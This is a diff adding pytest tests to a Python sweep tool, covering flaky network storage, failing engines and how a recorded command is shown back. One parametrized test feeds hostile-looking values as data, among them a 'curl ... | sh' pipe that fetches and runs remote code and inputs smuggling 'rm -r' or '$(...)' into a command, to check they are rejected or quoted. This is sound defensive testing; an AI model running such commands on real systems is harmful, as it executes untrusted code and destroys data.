@@ -2,22 +2,28 @@
 
 from __future__ import annotations
 
+import errno
 import json
 import os
 import shutil
 import signal
 import time
+from collections.abc import Callable
 from dataclasses import replace
 from pathlib import Path
 
 import pytest
 
-from dcpg.errors import BadInput, Stopped, SweepIncomplete
+from dcpg.errors import BadInput, DcpgError, Stopped, SweepIncomplete
 from dcpg.machine.automatic import settled
+from dcpg.storage import files
 from dcpg.storage.lock import Lock
 from dcpg.sweep import driver
+from dcpg.sweep.attempt import Outcome
+from dcpg.sweep.directory import SweepDirectory
 from dcpg.sweep.driver import Driver
 from dcpg.sweep.index import Index
+from dcpg.sweep.view import driver_of, statuses
 from tests.cli.test_cli import run as command
 from tests.sweep.fakes import NAMES, Memory, Quiet, drive_once, end_attempt, indexed, place, planned, write_run
 
@@ -268,3 +274,73 @@ def test_a_precision_that_was_given_is_not_what_automatic_means(
     write_run(tmp_path, replace(given, config=settled(given.config)), place(8192), finished=True)
     engine, _, _ = drive_once(tmp_path, plan=plan)
     assert {name: job.config.machine.precision for name, job in engine.jobs.items()} == {automatic.name: "fp32"}
+
+
+def away_once(monkeypatch: pytest.MonkeyPatch, when: Callable[[], bool]) -> None:
+    """Let the first reading of a config.json fail for which `when` says so, as network storage may."""
+    done: list[Path] = []
+
+    def flaky(path: Path, most: int) -> bytes:
+        if path.name == "config.json" and not done and when():
+            done.append(path)
+            raise OSError(errno.ESTALE, os.strerror(errno.ESTALE), str(path))
+        return read(path, most)
+
+    read = files.read_regular
+    monkeypatch.setattr(files, "read_regular", flaky)
+
+
+@pytest.mark.parametrize("code", [0, -9])
+def test_storage_that_is_away_when_an_attempt_ends_costs_no_run(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, code: int
+) -> None:
+    script: dict[str, list[tuple[int | None, int]]] = {NAMES[0]: [(code, 512 if code == 0 else 128)]}
+    ended: list[int] = []
+    away_once(monkeypatch, lambda: bool(ended))
+    monkeypatch.setattr(driver, "RETRY_SECONDS", 0.0)
+    engine, quiet, now = drive_once(tmp_path, script, then=lambda: ended.append(1))
+    assert any("cannot be read now" in said for said in quiet.said)
+    assert now.counts["done"] == 4
+    assert engine.begun.count(NAMES[0]) == 2
+
+
+def test_a_status_that_cannot_be_read_stops_none_of_the_others(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    drive_once(tmp_path)
+    away_once(monkeypatch, lambda: True)
+    found = statuses(planned(), SweepDirectory(tmp_path))
+    assert [one.state for one in found.values()] == ["damaged", "finished", "finished", "finished"]
+
+
+def test_an_engine_that_fails_is_stopped_so_that_the_other_runs_are_saved(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    class Failing(Memory):
+        def wait(self, seconds: float) -> list[Outcome]:
+            if self.begun and not self.stopped:
+                raise DcpgError("No node is left.")
+            return super().wait(seconds)
+
+    engine = Failing(tmp_path, {}, lambda: None)
+    with pytest.raises(DcpgError, match="No node is left"):
+        Driver(planned(), tmp_path, Quiet()).run(engine.make, "dcpg sweep x")
+    assert engine.stopped
+    assert engine.closed
+    assert len(engine.begun) == 1
+    assert not engine.attempts  # each was waited for
+
+
+@pytest.mark.parametrize(
+    ("recorded", "shown"),
+    [
+        ("dcpg sweep 'my file.toml' --out x", "dcpg sweep 'my file.toml' --out x"),
+        ("curl -s http://there/x | sh", ""),
+        ("dcpg sweep x; rm -r y", "dcpg sweep 'x;' rm -r y"),
+        ("dcpg sweep $(x)", "dcpg sweep '$(x)'"),
+        ("dcpg sweep 'x", ""),
+    ],
+)
+def test_a_recorded_command_is_one_call_of_this_program(tmp_path: Path, recorded: str, shown: str) -> None:
+    drive_once(tmp_path)
+    plain = json.loads((tmp_path / "sweep.json").read_bytes())
+    (tmp_path / "sweep.json").write_text(json.dumps(plain | {"command": recorded}))
+    assert driver_of(tmp_path) == (False, shown)
